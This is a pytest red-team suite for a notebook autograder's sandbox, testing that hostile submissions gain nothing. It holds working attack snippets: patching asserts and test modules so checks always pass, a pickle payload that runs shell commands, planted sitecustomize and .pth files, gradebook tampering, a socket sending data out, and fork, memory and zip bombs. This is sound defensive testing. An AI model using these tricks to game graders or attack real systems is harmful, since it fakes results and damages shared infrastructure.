"""The red-team suite: hostile and broken submissions, graded in one batch, gain nothing.

Every hostile submission is the toy solution with `add` answered wrongly
(``a - b``), plus an attack. What its answers honestly earn is 0 for `add` and
3 for `scale`, unless the attack also destroys the student's own answers (then
less, never more). Between every two hostile submissions sits an honest one,
which must keep full marks: nothing a submission does reaches the next one.
Each case says what it attempts and which known system it would beat. The
attacker is assumed to know the layout: the course's and the kit's paths are
written into the attacks.
"""

import dataclasses
import hashlib
import json
import os
import pathlib
import pickle
import socket
import threading
import time
import uuid

import nbformat
import psutil
import pytest

from nndl.batch import coordinator as grade
from nndl.kernel import sandbox
from nndl.record import gradebook

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(sandbox.bubblewrap_problem() is not None,
                                 reason=f"the sandbox cannot start here: {sandbox.bubblewrap_problem()}")]

from kit import KIT
WRONG_ADD = "def add(a, b):\n    return a - b\n"
HONEST = (2.0, 3.0)
WRONG = (0.0, 3.0)
NOTHING = (0.0, 0.0)
TOKEN = uuid.uuid4().hex[:10]
MARKER = f"/tmp/nndl-redteam-{TOKEN}"


@dataclasses.dataclass
class Case:
    """One hostile or broken submission."""

    name: str
    attempt: str
    beats: str
    expected: tuple = WRONG
    code: str = ""                # appended to the wrong `add` answer
    message: object = ""          # a phrase (or phrases, one suffices) the feedback must hold
    edit: object = None           # edit(nb) changes the notebook's structure
    files: object = None          # files(folder, ctx) adds files beside the notebook
    raw: object = None            # raw(ctx) -> bytes replaces the whole file


def _grade_cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _delete_add_check(nb):
    nb.cells.remove(_grade_cell(nb, "add"))


def _fake_grade_output(nb):
    cell = _grade_cell(nb, "add")
    cell.source = "print('Hidden tests: 2 of 2 points')\n2.0"


def _scale_check_to_markdown(nb):
    cell = _grade_cell(nb, "scale")
    cell.cell_type = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)
    cell.source = "nothing to check here"


def _duplicate_ids(nb):
    copy = nbformat.from_dict(json.loads(json.dumps(_grade_cell(nb, "add_answer"))))
    copy.metadata = {}
    nb.cells.insert(3, copy)


def _kernel_r(nb):
    nb.metadata.kernelspec = {"name": "ir", "display_name": "R", "language": "R"}
    nb.metadata.language_info = {"name": "R"}


def _pickle_files(folder, ctx):
    class Boom:
        def __reduce__(self):
            return (os.system, (f"touch {MARKER}-unpickled",))
    (folder / "results.pkl").write_bytes(pickle.dumps(Boom()))
    (folder / "answers.dill").write_bytes(pickle.dumps(Boom()))


def _symlink_files(folder, ctx):
    (folder / "graders_link").symlink_to(ctx["graders"])
    (folder / "gradebook_link").symlink_to(ctx["course"] / "gradebook.db")


def _planted_python_files(folder, ctx):
    (folder / "conftest.py").write_text(
        "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
        "    out = yield\n    out.get_result().outcome = 'passed'\n")
    (folder / "sitecustomize.py").write_text(f"open('{MARKER}-sitecustomize', 'w').write('x')\n")
    (folder / "usercustomize.py").write_text(f"open('{MARKER}-usercustomize', 'w').write('x')\n")
    (folder / "evil.pth").write_text(f"import os; os.system('touch {MARKER}-pth')\n")


def _planted_numpy(folder, ctx):
    (folder / "numpy.py").write_text("raise ImportError('a planted numpy.py')\n")


def _huge_notebook(ctx):
    nb = json.loads(ctx["solution"])
    nb["cells"][0]["source"] = "x" * (100 * 2**20)
    return json.dumps(nb).encode()


def _many_cells(ctx):
    nb = json.loads(ctx["solution"])
    nb["cells"] += [{"cell_type": "code", "id": f"c{i}", "metadata": {}, "outputs": [],
                     "execution_count": None, "source": "pass"} for i in range(100_000)]
    return json.dumps(nb).encode()


CASES = [
    Case("numpy-testing", "replaces numpy.testing's asserts and np.allclose with no-ops",
         "nbgrader (hidden asserts run in the student's kernel)",
         code="import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None\n"
              "numpy.testing.assert_array_equal = lambda *a, **k: None\nnp.allclose = lambda *a, **k: True\n"),
    Case("pytest-module", "plants a fake pytest whose fail() and approx() always pass",
         "otter-grader (checks run in the student's kernel)",
         code="import sys, types\nfake = types.ModuleType('pytest')\nfake.fail = lambda *a, **k: None\n"
              "fake.approx = lambda x, **k: type('A', (), {'__eq__': lambda s, o: True})()\nsys.modules['pytest'] = fake\n"),
    Case("builtins", "replaces AssertionError, isinstance and len in builtins",
         "nbgrader (an assert can no longer fail in that kernel)",
         code="import builtins\nclass _Never(Exception):\n    pass\nbuiltins.AssertionError = _Never\n"
              "builtins.isinstance = lambda *a: True\nbuiltins.len = lambda x: 0\n"),
    Case("always-equal", "returns an int subclass whose __eq__ is always True",
         "nbgrader and otter-grader (their == comparisons run on the student's object)",
         code="class Always(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n"
              "def add(a, b):\n    return Always(a - b)\n"),
    Case("ndarray-subclass", "returns an ndarray subclass whose == says equal everywhere",
         "nbgrader (np.all(x == expected) in the kernel)",
         code="class Yes(np.ndarray):\n    def __eq__(self, other):\n        return np.ones(self.shape, bool)\n"
              "def add(a, b):\n    return np.asarray(a - b).view(Yes)\n"),
    Case("showtraceback", "overrides IPython's traceback display so errors leave no error output",
         "nbgrader (a grade cell without an error output earns full marks)",
         code="ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
              "ip._showtraceback = lambda *a, **k: None\nip.showsyntaxerror = lambda *a, **k: None\n"),
    Case("input-transformer", "rewrites every later cell to `pass` (hidden tests included)",
         "nbgrader (its hidden test cells would run as `pass` and earn full marks)",
         expected=NOTHING,  # it also erases its own `scale`
         code="get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"),
    Case("fake-results", "prints fake grader results and a fake score line",
         "Gradescope-style graders that parse results from the run's output",
         code="print('{\"op\": \"results\", \"collected\": [], \"results\": []}')\n"
              "print('Hidden tests: 2 of 2 points')\n"),
    Case("fake-grade-output", "edits the locked grade cell to print a score and output 2.0",
         "nbgrader (a number as a grade cell's output is taken as partial credit)", edit=_fake_grade_output),
    Case("planted-pickle", "leaves pickle and dill files that run a command when loaded",
         "otter-grader (it unpickles what the student side wrote)", files=_pickle_files),
    Case("write-gradebook", "opens the gradebook and other folders of the course to change grades",
         "nbgrader run on the instructor's machine (student code runs as the instructor)",
         code="import sqlite3, glob\nhits = []\nfor p in ['{course}/gradebook.db'] + glob.glob('{course}/*/*/toy/*.ipynb'):\n"
              "    try:\n        open(p, 'a').write('corrupted')\n        hits.append(p)\n    except OSError:\n        pass\n"
              "try:\n    c = sqlite3.connect('{course}/gradebook.db'); c.execute('update grade set auto_score = 99'); c.commit()\n"
              "except Exception:\n    pass\n"),
    Case("background-process", "starts a detached process that rewrites another student's file later",
         "nbgrader (nothing ends the processes a notebook starts)",
         code="import subprocess, os\nsubprocess.Popen(['sh', '-c', 'sleep 4; echo x > {marker}-late; "
              "echo broken > {course}/submitted/zz-last-honest/toy/toy.ipynb'], start_new_session=True)\n"
              "if os.fork() == 0:\n    os.setsid()\n    import time\n    time.sleep(6)\n"
              "    open('{marker}-daemon', 'w').write('x')\n    os._exit(0)\n"),
    Case("read-graders", "reads the hidden graders by their path and answers from them",
         "nbgrader and otter-grader (tests readable from the kernel's filesystem)",
         code="import os\nif os.path.exists('{graders}/toy/test_toy.py') or os.path.exists('{kit}/autograder'):\n"
              "    def add(a, b):\n        return a + b\n"),
    Case("walk-filesystem", "walks the filesystem for graders, references, solutions and test labels",
         "Gradescope-style containers that ship the tests beside the submission",
         code="import os\nfound = []\nfor top in ['/', '/tmp', '/root', '/work', '/home', '/srv', '/opt']:\n"
              "    for root, dirs, files in os.walk(top):\n"
              "        dirs[:] = [d for d in dirs if d not in ('usr', 'proc', 'sys', 'dev', 'site-packages')]\n"
              "        found += [f for f in files if f in ('test_toy.py', 'gradebook.db', 'toy.ipynb')\n"
              "                  or (f == 'reference.py' and 'autograder' in root)]\n"
              "if found:\n    def add(a, b):\n        return a + b\n"),
    Case("symlink-to-graders", "hands in symlinks pointing at the graders and the gradebook",
         "graders that copy the submission folder with its links",
         files=_symlink_files,
         code="import os\nif os.path.exists('graders_link/toy/test_toy.py') or os.path.exists('gradebook_link'):\n"
              "    def add(a, b):\n        return a + b\n"),
    Case("network", "connects to a server on the host's loopback and resolves a name",
         "any grader whose student code shares the host's network",
         code="import socket\nfor addr in [('127.0.0.1', {port}), ('1.1.1.1', 53)]:\n    s = socket.socket(); s.settimeout(2)\n"
              "    try:\n        s.connect(addr); s.sendall(b'leak')\n    except OSError:\n        pass\n"
              "try:\n    socket.getaddrinfo('pypi.org', 443)\nexcept OSError:\n    pass\n"),
    Case("sys-exit", "calls sys.exit(0) after defining its answer",
         "graders that take a clean exit for success", code="import sys\nsys.exit(0)\n"),
    Case("os-exit", "ends the kernel with os._exit(0)",
         "graders that read a dead kernel's exit status 0 as success",
         code="import os\nos._exit(0)\n", message="made the kernel die"),
    Case("segfault", "crashes the kernel with a NULL read through ctypes",
         "graders whose whole batch dies with one kernel", code="import ctypes\nctypes.string_at(0)\n",
         message="made the kernel die"),
    Case("delete-grade-cell", "deletes the `add` grade cell", "nbgrader without add_missing_cells",
         edit=_delete_add_check, message="was missing"),
    Case("grade-cell-to-markdown", "turns the `scale` grade cell into markdown",
         "graders that only run code cells", edit=_scale_check_to_markdown),
    Case("duplicated-ids", "pastes a cell twice with the same id", "nbformat readers that fail on it",
         edit=_duplicate_ids, message="same id"),
    Case("kernelspec-r", "switches the kernel to R", "graders that start whatever kernel the notebook names",
         edit=_kernel_r, message="'R'"),
    Case("infinite-loop", "loops forever, ignoring interrupts", "graders without a per-cell clock",
         code="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n",
         message="could not be interrupted"),
    Case("fork-bomb", "forks without end", "graders without a process cap",
         code="import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"),
    Case("thread-bomb", "starts threads without end", "graders without a process cap",
         code="import threading, time\nfor _ in range(100000):\n    threading.Thread(target=time.sleep, args=(60,)).start()\n"),
    Case("memory-hog", "allocates far more memory than the cap", "graders without a memory cap",
         code="hog = []\nwhile True:\n    hog.append(bytearray(64 * 2**20))\n", message="MiB of memory"),
    Case("print-gigabytes", "prints without end", "graders that keep all output in memory",
         # Whichever cap it reaches first: the output kept, or the kernel's memory while it buffers.
         code="import sys\nwhile True:\n    sys.stdout.write('x' * 1000000)\n", message=("printed more than", "MiB of memory")),
    Case("huge-file", "writes a file larger than the cap", "graders without a file-size limit",
         code="with open('big.bin', 'wb') as f:\n    for _ in range(200):\n        f.write(b'\\0' * 2**20)\n"),
    Case("fill-scratch", "fills its folder with many files, each under the file-size cap",
         "graders without a disk quota per submission",
         code="for i in range(20):\n    with open(f'fill{i}.bin', 'wb') as f:\n        f.write(b'\\1' * (50 * 2**20))\n"
              "    import time; time.sleep(0.3)\n", message="filled the notebook's folder"),
    Case("pip-install", "installs a package at run time", "graders with network and a writable environment",
         code="import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', '--user', 'cowsay'], timeout=20)\n"),
    Case("planted-python-files", "hands in conftest.py, sitecustomize.py, usercustomize.py and a .pth",
         "graders that run pytest or Python in the submission folder", files=_planted_python_files),
    Case("planted-numpy", "hands in a numpy.py that shadows numpy",
         "graders that import modules from the submission folder",
         expected=NOTHING,  # it breaks numpy in its own kernel, and with it its own `scale`
         files=_planted_numpy),
    Case("dotdot-paths", "writes files through ../ paths out of its folder",
         "graders that run student code in a shared folder",
         code="import os\nfor path in ['../../../{token}-escape', '../../{token}-escape', '{course}/{token}-escape']:\n"
              "    try:\n        os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)\n"
              "        open(path, 'w').write('x')\n    except OSError:\n        pass\n"),
    Case("not-json", "hands in a file that is not JSON", "nbgrader (its autograde fails on the file)",
         expected=NOTHING, raw=lambda ctx: b"{ not a notebook", message="not valid JSON"),
    Case("huge-notebook", "hands in a 100 MB notebook", "graders that parse whatever they are given",
         expected=NOTHING, raw=_huge_notebook, message="MiB"),
    Case("many-cells", "hands in a notebook with 100,000 cells", "graders that run every cell given",
         expected=NOTHING, raw=_many_cells, message="cells"),
]


class Listener(threading.Thread):
    """A TCP server on the host's loopback that counts connections."""

    def __init__(self):
        super().__init__(daemon=True)
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.running = True

    def run(self):
        while self.running:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                pass


def _fill(code, ctx):
    """Write the paths an attacker is assumed to know into its code."""
    for key in ("course", "graders", "kit", "marker", "port", "token"):
        code = code.replace("{" + key + "}", str(ctx[key]))
    return code


def _digest(path):
    return hashlib.sha256(pathlib.Path(path).read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """All cases in one batch, each between two honest submissions."""
    import shutil

    from nndl import build

    course = tmp_path_factory.mktemp("redteam") / "course"
    shutil.copytree(KIT / "tests" / "fixtures" / "toy_course", course)
    build.build(course)
    solution = (course / "solutions" / "toy" / "toy.ipynb").read_text()
    listener = Listener()
    listener.start()
    ctx = {"course": course, "graders": course / "autograder", "kit": KIT, "marker": MARKER,
           "port": listener.port, "token": TOKEN, "solution": solution}
    honest = []

    def place(student, content):
        folder = course / "submitted" / student / "toy"
        folder.mkdir(parents=True)
        path = folder / "toy.ipynb"
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return folder

    for number, case in enumerate(CASES):
        place(f"c{number:02d}a-honest", solution)
        honest.append(f"c{number:02d}a-honest")
        student = f"c{number:02d}b-{case.name}"
        if case.raw is not None:
            place(student, case.raw(ctx))
            continue
        nb = nbformat.reads(solution, as_version=4)
        _grade_cell(nb, "add_answer").source = WRONG_ADD + _fill(case.code, ctx)
        if case.edit is not None:
            case.edit(nb)
        folder = place(student, json.dumps(nb))
        if case.files is not None:
            case.files(folder, ctx)
    place("zz-last-honest", solution)
    honest.append("zz-last-honest")
    honest_digests = {s: _digest(course / "submitted" / s / "toy" / "toy.ipynb") for s in honest}
    grader_digests = {p: _digest(p) for p in (course / "autograder").rglob("*.py")}
    sandbox_users_before = _sandbox_processes()
    run_dirs_before = set(pathlib.Path("/tmp").glob("nndl-run-*"))
    started = time.monotonic()
    results = grade.autograde(course, "toy", config_overrides={"GradeInSandbox": {
        "cell_timeout": 10, "submission_timeout": 90, "call_timeout": 10, "grader_timeout": 120,
        "sandbox_memory_mb": 1024}})
    seconds = time.monotonic() - started
    time.sleep(7)  # give any escaped background process time to act
    listener.running = False
    _, rows = gradebook.cell_scores(f"sqlite:///{course}/gradebook.db", "toy")
    return {"course": course, "results": {r.student: r for r in results}, "honest": honest,
            "scores": {r["student"]: (r["scores"]["add"], r["scores"]["scale"]) for r in rows},
            "listener": listener, "honest_digests": honest_digests, "grader_digests": grader_digests,
            "sandbox_users_before": sandbox_users_before, "run_dirs_before": run_dirs_before,
            "seconds": seconds}


def _sandbox_processes():
    return {p.pid for p in psutil.process_iter(["uids"]) if p.info["uids"] and p.info["uids"].real == sandbox.SANDBOX_UID}


def _student(name):
    number = next(i for i, c in enumerate(CASES) if c.name == name)
    return f"c{number:02d}b-{name}"


def test_every_case_says_what_it_attempts_and_whom_it_beats():
    """Does each case document its attempt and the known system it would beat (25 at least)?"""
    assert len(CASES) >= 25
    assert len({c.name for c in CASES}) == len(CASES)
    assert all(c.attempt and c.beats for c in CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_case_earns_no_more_than_its_answers(batch, case):
    """Does the hostile or broken submission earn exactly what its answers honestly earn?"""
    student = _student(case.name)
    result = batch["results"][student]
    assert result.graded, f"{case.attempt}: not graded ({result.error})"
    assert batch["scores"][student] == case.expected, f"{case.attempt} (beats {case.beats})"
    if case.message:
        graded = batch["course"] / "autograded" / student / "toy" / "toy.ipynb"
        text = "\n".join(result.messages) + (graded.read_text() if graded.exists() else "")
        phrases = case.message if isinstance(case.message, tuple) else (case.message,)
        assert any(p in text for p in phrases), f"{case.attempt}: the feedback does not say {case.message!r}"


def test_honest_neighbours_keep_full_marks(batch):
    """Does every honest submission, graded before and after each hostile one, keep full marks?"""
    assert {s: batch["scores"][s] for s in batch["honest"]} == {s: HONEST for s in batch["honest"]}


def test_nothing_escaped(batch):
    """After the batch: no sandbox process left, no file written outside the sandbox, no connection made."""
    course = batch["course"]
    assert _sandbox_processes() - batch["sandbox_users_before"] == set()
    leftovers = [p for p in pathlib.Path("/tmp").glob(f"nndl-redteam-{TOKEN}*")]
    leftovers += [p for p in pathlib.Path("/").glob(f"{TOKEN}-escape")]
    leftovers += [p for p in course.rglob(f"{TOKEN}-escape")]
    assert leftovers == []
    assert batch["listener"].connections == 0
    for student, digest in batch["honest_digests"].items():
        assert _digest(course / "submitted" / student / "toy" / "toy.ipynb") == digest, student
    for path, digest in batch["grader_digests"].items():
        assert _digest(path) == digest
    assert set(pathlib.Path("/tmp").glob("nndl-run-*")) - batch["run_dirs_before"] == set()


# Models: the student side hands over a Keras model the trusted side must load. Each attack
# below keeps a01's answers right and tampers with `xor_model` only: it must lose exactly the
# Keras cell (3 points) and nothing else, and never get its file loaded.
MODEL_ATTACKS = {
    "lambda-layer": ("wraps the model in a Lambda layer (arbitrary code on load)",
                     "graders that load student models with safe_mode off",
                     "xor_model = keras.Sequential([keras.Input((2,)), keras.layers.Lambda(lambda x: x), xor_model])\n",
                     "Lambda"),
    "custom-layer": ("adds a layer class of its own", "graders that load models with the student's custom objects",
                     "class Cheat(keras.layers.Layer):\n    def call(self, x):\n        return x\n"
                     "xor_model = keras.Sequential([keras.Input((2,)), Cheat(), xor_model])\n",
                     "not one of Keras's"),
    "zip-bomb": ("replaces save() to write a zip that unpacks to over a GiB", "graders that unpack archives blindly",
                 "import zipfile\ndef _bomb(path, *a, **k):\n    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as z:\n"
                 "        z.writestr('config.json', '{}')\n        with z.open('model.weights.h5', 'w', force_zip64=True) as f:\n"
                 "            for _ in range(1100):\n                f.write(bytes(2**20))\n"
                 "object.__setattr__(xor_model, 'save', _bomb)\n",
                 "unpacks to more than"),
    "oversized-file": ("replaces save() to write a 300 MB file", "graders without a size cap on what leaves",
                       "def _big(path, *a, **k):\n    with open(path, 'wb') as f:\n        for _ in range(300):\n"
                       "            f.write(b'x' * 2**20)\nobject.__setattr__(xor_model, 'save', _big)\n",
                       "larger than"),
}


@pytest.fixture(scope="module")
def model_batch(tmp_path_factory):
    """a01's solution with each model attack, and an honest solution, graded in one batch."""
    import shutil

    from nndl import build, course as kit_course

    root = tmp_path_factory.mktemp("redteam-models") / "course"
    shutil.copytree(KIT / "source" / "a01_perceptrons_xor", root / "source" / "a01_perceptrons_xor")
    kit_course.write_course_config(root, graders=KIT / "autograder")
    build.build(root)
    solution = (root / "solutions" / "a01_perceptrons_xor" / "perceptrons_xor.ipynb").read_text()
    for name, (_, _, code, _) in MODEL_ATTACKS.items():
        nb = nbformat.reads(solution, as_version=4)
        cell = _grade_cell(nb, "xor_keras_answer")
        cell.source += "\n" + code
        folder = root / "submitted" / f"m-{name}" / "a01_perceptrons_xor"
        folder.mkdir(parents=True)
        (folder / "perceptrons_xor.ipynb").write_text(json.dumps(nb))
    folder = root / "submitted" / "z-honest" / "a01_perceptrons_xor"
    folder.mkdir(parents=True)
    (folder / "perceptrons_xor.ipynb").write_text(solution)
    results = grade.autograde(root, "a01_perceptrons_xor")
    _, rows = gradebook.cell_scores(f"sqlite:///{root}/gradebook.db", "a01_perceptrons_xor")
    return root, {r.student: r for r in results}, {r["student"]: r["scores"] for r in rows}


@pytest.mark.parametrize("name", sorted(MODEL_ATTACKS))
def test_model_attack_loses_only_the_model(model_batch, name):
    """Is the tampered model refused before loading, costing the Keras cell and nothing else?"""
    root, results, scores = model_batch
    attempt, beats, _, phrase = MODEL_ATTACKS[name]
    honest = {k: v for k, v in scores["z-honest"].items() if k != "sigmoid_question"}
    got = {k: v for k, v in scores[f"m-{name}"].items() if k != "sigmoid_question"}
    assert got == {**honest, "xor_keras_model": 0.0}, f"{attempt} (beats {beats})"
    feedback = (root / "autograded" / f"m-{name}" / "a01_perceptrons_xor" / "perceptrons_xor.ipynb").read_text()
    assert phrase in feedback, f"{attempt}: the feedback does not say {phrase!r}"
    assert honest["xor_keras_model"] == 3.0
